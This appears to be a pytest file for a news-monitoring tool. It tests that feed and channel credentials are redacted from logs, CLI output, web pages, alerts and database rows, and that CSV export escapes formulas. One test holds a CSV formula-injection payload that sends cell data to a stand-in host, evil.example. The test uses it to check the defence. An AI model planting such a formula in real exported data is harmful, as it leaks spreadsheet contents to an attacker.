"""Secrets stay secret: a source URL's credentials and keys appear in no log line, command output,
web page, alert or database column (while the URL still fetches); a channel URL shows everything
but its secrets; a CSV cell never runs as a spreadsheet formula."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import logging
from dataclasses import replace

import pytest
from sqlalchemy import String, Text, select
from sqlalchemy.types import JSON
from starlette.testclient import TestClient

from monitor.alerts.secrets import channel_secrets, mask_channel_url, redact
from monitor.cli.render import csv_cell
from monitor.db.models import Article, ArticleStatus, Base
from monitor.db.session import make_engine
from monitor.fetch.http import HttpClient
from monitor.pipeline import poll_source
from monitor.runtime import open_runtime
from monitor.scheduler import OperatorAlerts, send_alerts
from monitor.web.app import create_app
from monitor.web.database import open_readonly
from tests.helpers import FAST, RSS, SEGHROUCHNI, cli, count, db, make_config, paragraphs
from tests.servers import Response, Site
from tests.sitegen import article_page, rss_feed

USER, PASSWORD, KEY = "feeduser", "FeedS3cretPass", "K3yK3y"
SECRETS = (USER, PASSWORD, KEY)
AUTH = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()


def _no_secret(where: str, text: str) -> None:
    for secret in SECRETS:
        assert secret not in text, f"{secret!r} shown in {where}: …{text[max(0, text.find(secret) - 80):][:200]}…"


@pytest.fixture
def outlet():
    """An outlet on 127.0.0.2 whose feed wants credentials and a key, and is down until told."""
    site = Site("127.0.0.2")
    state = {"up": False}
    page = article_page("Digital strategy presented", paragraphs(SEGHROUCHNI))
    site.route("/a/minister", Response(page))
    site.route("/a/relative", Response(article_page("Seghrouchni in Tangier", paragraphs(SEGHROUCHNI))))
    site.route("/a/broken", Response("oops", status=500, content_type="text/plain"))
    with_credentials = site.base.replace("://", f"://{USER}:{PASSWORD}@") + "/a/minister"
    feed = rss_feed(site.base, [
        {"title": "Digital strategy presented", "link": with_credentials},  # credentials in a link
        {"title": "Seghrouchni in Tangier", "link": "/a/relative"},
        {"title": "Seghrouchni's broken page", "link": site.url("/a/broken"), "summary": "Seghrouchni spoke."},
    ])  # fmt: skip

    def serve(req):
        if req.headers.get("authorization") != AUTH or f"apikey={KEY}" not in req.path:
            return Response("who are you?", status=401, content_type="text/plain")
        if not state["up"]:
            return Response("maintenance", status=503, content_type="text/plain")
        return Response(feed, content_type=RSS)

    site.route("/feed", serve)
    site.route("/gone", Response("gone", status=410, content_type="text/plain"))
    target = f"ftp://{USER}:{PASSWORD}@{site.host}/feed?apikey={KEY}"
    site.route("/moved", Response("", status=302, headers={"Location": target}, content_type="text/plain"))
    site.route("/hook", Response("ok", content_type="text/plain"))
    site.route("/ops", Response("ok", content_type="text/plain"))
    yield site, state
    site.close()


def _credentials(site: Site, path: str) -> str:
    return f"http://{USER}:{PASSWORD}@{site.host}:{site.port}{path}"


def test_source_credentials_appear_nowhere(tmp_path, db_url, outlet, caplog):
    site, state = outlet
    sources = [
        {"name": "Main", "feed": _credentials(site, f"/feed?apikey={KEY}&x=1")},
        {"name": "Gone", "feed": _credentials(site, f"/gone?apikey={KEY}")},
        {"name": "Moved", "feed": _credentials(site, f"/moved?token={KEY}")},
    ]
    channels = [
        {"name": "hook", "url": f"json://{site.host}:{site.port}/hook"},
        {"name": "ops", "url": f"json://{site.host}:{site.port}/ops"},
    ]
    cfg = make_config(tmp_path, db_url, sources, "unused", channels=channels, operator_channel="ops")
    caplog.set_level(logging.DEBUG)

    async def work() -> list[str]:
        async with open_runtime(cfg, replace(FAST, max_page_attempts=1)) as rt:
            for _ in range(3):  # the outlet is down: three failed polls make it "failing"
                for source in cfg.sources:
                    await poll_source(rt, source)
            told = OperatorAlerts().check(rt)
            state["up"] = True
            for source in cfg.sources:
                await poll_source(rt, source)
            await asyncio.to_thread(send_alerts, rt)
            return told

    told = asyncio.run(work())
    assert sorted(told) == ["Gone: disabled", "Main: failing", "Moved: failing"]

    # The URL works: the feed was fetched with its credentials and key, its articles stored.
    factory = db(cfg)
    assert count(factory, Article, Article.status == ArticleStatus.DONE) == 3
    with factory() as session:
        assert sorted(session.scalars(select(Article.url))) == [
            site.url("/a/broken"), site.url("/a/minister"), site.url("/a/relative")
        ]  # fmt: skip
    assert len(site.posts("/hook")) == 3  # each matched (the broken page from its feed text)
    assert "401" not in " ".join(r.message for r in caplog.records)

    # Logs (every level), operator alerts, alerts sent.
    _no_secret("the logs", "\n".join(f"{r.getMessage()} {getattr(r, 'article', '')}" for r in caplog.records))
    messages = [p.json() for p in site.posts("/ops") if p.json()["title"].startswith("[monitor] source")]
    assert len(messages) == 3 and any(f"{site.host}:{site.port}/feed?apikey=***&x=1" in m["message"]
                                      for m in messages)  # fmt: skip
    _no_secret("operator alerts", json.dumps(messages))
    _no_secret("alerts", json.dumps([p.json() for p in site.posts("/hook")]))

    # Every text column of the database.
    engine = make_engine(cfg.database)
    with engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            columns = [c for c in table.columns if isinstance(c.type, String | Text | JSON)]
            for row in conn.execute(select(*columns)) if columns else []:
                _no_secret(f"table {table.name}", json.dumps(list(row), default=str))
        gone = conn.execute(select(Base.metadata.tables["sources"].c.disabled_reason)).scalars().all()
        assert any(r and "answered 410 Gone" in r for r in gone)
    engine.dispose()

    # The commands.
    check = cli("--config", cfg.path, "check", cwd=tmp_path, columns=200)
    assert check.returncode == 0, check.stderr
    assert f"http://***@{site.host}:{site.port}/feed?apikey=***&x=1" in check.stdout
    _no_secret("check", check.stdout + check.stderr)
    for args in (["status"], ["status", "--format", "json"], ["alerts"], ["alerts", "--format", "json"]):
        proc = cli("--config", cfg.path, *args, cwd=tmp_path, columns=200)
        assert proc.returncode == 0, proc.stderr
        _no_secret(" ".join(args), proc.stdout + proc.stderr)
    status = json.loads(cli("--config", cfg.path, "status", "--format", "json", cwd=tmp_path).stdout)
    by_name = {s["source"]: s for s in status}
    assert by_name["Main"]["url"] == f"http://***@{site.host}:{site.port}/feed?apikey=***&x=1"
    assert "redirect to an unsupported URL: ftp://***@" in by_name["Moved"]["last_error"]
    assert "answered 410 Gone" in by_name["Gone"]["disabled"]

    # The web UI's sources page (and its alerts page).
    engine = open_readonly(cfg.database)
    try:
        with TestClient(create_app(cfg, engine)) as client:
            for path in ("/sources", "/alerts", "/"):
                page = client.get(path)
                assert page.status_code == 200
                _no_secret(f"the web page {path}", page.text)
            assert "answered 410 Gone" in client.get("/sources").text
    finally:
        engine.dispose()


def test_fetch_errors_quote_urls_redacted():
    async def fetch(url: str) -> str:
        async with HttpClient() as client:
            return (await client.get(url)).error or ""

    for url in (f"http://{USER}:{PASSWORD}@[::1/feed?apikey={KEY}", f"http://{USER}:{PASSWORD}@/x?token={KEY}"):
        error = asyncio.run(fetch(url))
        assert error.startswith("invalid URL") and "***" in error, error
        _no_secret("a fetch error", error)


# --------------------------------------------------------------------------- channel URLs


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("mailto://127.0.0.1:8025?to=press@ministry.example&from=monitor@ministry.example",
         "mailto://127.0.0.1:8025?to=press@ministry.example&from=monitor@ministry.example"),
        ("mailtos://smtpuser:SmtpPass99@smtp.example.org?to=press@example.org&from=monitor@example.org",
         "mailtos://smtpuser:***@smtp.example.org?to=press@example.org&from=monitor@example.org"),
        ("mailto://bob:pw@127.0.0.1:2525?to=a@b.example&from=c@d.example",
         "mailto://bob:***@127.0.0.1:2525?to=a@b.example&from=c@d.example"),  # however short
        ("slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/#press", "slack://***/***/***/#press"),
        ("slack://xoxb-1234-1234-4ddbc191d40ee098cbaae6f3523ada2d/#general", "slack://***/#general"),
        ("tgram://123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/12315544/", "tgram://***/12315544/"),
        ("json://monitor:Hook5ecret@hooks.example.org:8080/alerts?rto=60",
         "json://monitor:***@hooks.example.org:8080/alerts?rto=60"),
        ("jsons://hooks.example.org/alerts?token=abcdef123456&+X-Team=press",
         "jsons://hooks.example.org/alerts?token=***&+X-Team=press"),
        ("jsons://hooks.example.org/alerts/a8Fk2LmQ9zXv4TrW7pYs", "jsons://hooks.example.org/alerts/***"),
        ("discord://4174216298/JHMHI8qBe7bk2ZwO5U711o3dV_js", "discord://***/***"),
        ("logfile:///var/log/monitor/alerts.log", "logfile:///var/log/monitor/alerts.log"),
        ("console://", "console://"),
    ],
)  # fmt: skip
def test_channel_urls_show_everything_but_their_secrets(url, shown):
    assert mask_channel_url(url) == shown
    for secret in ("SmtpPass99", "TIiajkdnlazkcOXrIdevi7FQ", "ABCdefGhIJKlmNoPQRsTUVwxyZ", "Hook5ecret"):
        assert secret not in mask_channel_url(url)


def test_channel_secrets_hide_apprise_private_tokens_in_text():
    url = "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/#press"
    text = "POST https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ failed"
    assert redact(text, channel_secrets(url)) == "POST https://hooks.slack.com/services/***/***/*** failed"
    mail = "mailto://127.0.0.1:8025?to=press@ministry.example&from=monitor@ministry.example"
    assert channel_secrets(mail) == set()  # nothing secret: recipients and port stay readable
    # a URL apprise rejects: all but its scheme and host is hidden
    assert "s3cretpw" not in redact("nope://user:s3cretpw@host/k", channel_secrets("nope://user:s3cretpw@host/k"))


def test_check_shows_channels_as_written_but_their_secrets(tmp_path):
    channels = [
        {"name": "press", "url": "mailto://127.0.0.1:8025?to=press@ministry.example&from=monitor@ministry.example"},
        {"name": "team", "url": "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ/#press"},
        {"name": "hook", "url": "json://monitor:Hook5ecret@127.0.0.1:9/alerts"},
    ]
    cfg = make_config(tmp_path, f"sqlite:///{tmp_path / 'm.db'}", [], "unused", channels=channels)
    proc = cli("--config", cfg.path, "check", cwd=tmp_path, columns=250)
    assert proc.returncode == 0, proc.stderr
    assert "mailto://127.0.0.1:8025?to=press@ministry.example&from=monitor@ministry.example" in proc.stdout
    assert "slack://***/***/***/#press" in proc.stdout and "json://monitor:***@127.0.0.1:9/alerts" in proc.stdout
    assert "Hook5ecret" not in proc.stdout and "TIiajkdnlazkcOXrIdevi7FQ" not in proc.stdout


# --------------------------------------------------------------------------- CSV


def test_csv_cells_never_run_as_formulas(tmp_path, site):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Seghrouchni")'
    titles = [hostile, "+Seghrouchni", "-Seghrouchni", "@Seghrouchni", "Seghrouchni = minister"]
    items = []
    for i, title in enumerate(titles):
        site.route(f"/a/{i}", Response(article_page(title, paragraphs(SEGHROUCHNI))))
        items.append({"title": title, "link": site.url(f"/a/{i}")})
    site.route("/feed.xml", Response(rss_feed(site.base, items), content_type=RSS))
    site.route("/hook", Response("ok", content_type="text/plain"))
    cfg = make_config(tmp_path, f"sqlite:///{tmp_path / 'm.db'}", [{"name": "Atlas", "feed": site.url("/feed.xml")}],
                      site.base[7:] + "/hook")  # fmt: skip
    assert cli("--config", cfg.path, "run", "--once", cwd=tmp_path).returncode == 0
    proc = cli("--config", cfg.path, "matches", "--format", "csv", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    shown = {r["title"] for r in rows if r["topic"] == "Seghrouchni"}
    assert shown == {"'" + hostile, "'+Seghrouchni", "'-Seghrouchni", "'@Seghrouchni", "Seghrouchni = minister"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    # titles are whitespace-collapsed before they are stored; the writer neutralises these too
    assert [csv_cell(v) for v in ("\tx", "\rx", "x-y", 3, None)] == ["'\tx", "'\rx", "x-y", 3, None]


def test_a_source_row_stored_by_an_older_version_is_cleaned_keeping_its_state(session_factory):
    from monitor.config import Config, SourceConfig
    from monitor.db.models import Source
    from monitor.db.session import transaction
    from monitor.db.sync import sync_config

    url = f"http://{USER}:{PASSWORD}@feeds.example.org/rss?apikey={KEY}"
    with transaction(session_factory) as session:
        session.add(Source(name="Wire", kind="feed", url=url, etag='"v1"', consecutive_failures=2,
                           last_error=f"invalid URL: {url}", disabled_reason=f"{url} answered 410 Gone"))  # fmt: skip
    config = Config(sources=[SourceConfig(name="Wire", feed=url)])
    with transaction(session_factory) as session:
        sync_config(session, config)
    with session_factory() as session:
        row = session.scalars(select(Source)).one()
        assert row.url == "http://***@feeds.example.org/rss?apikey=***"
        assert row.last_error == "invalid URL: http://***@feeds.example.org/rss?apikey=***"
        assert row.disabled_reason.startswith("http://***@feeds.example.org/rss?apikey=*** answered")
        assert (row.etag, row.consecutive_failures) == ('"v1"', 2)  # the same address: state kept
    rotated = Config(sources=[SourceConfig(name="Wire", feed=url.replace(KEY, "N3wK3y"))])
    with transaction(session_factory) as session:
        sync_config(session, rotated)
    with session_factory() as session:
        assert session.scalars(select(Source.etag)).one() == '"v1"'  # new credentials, same feed
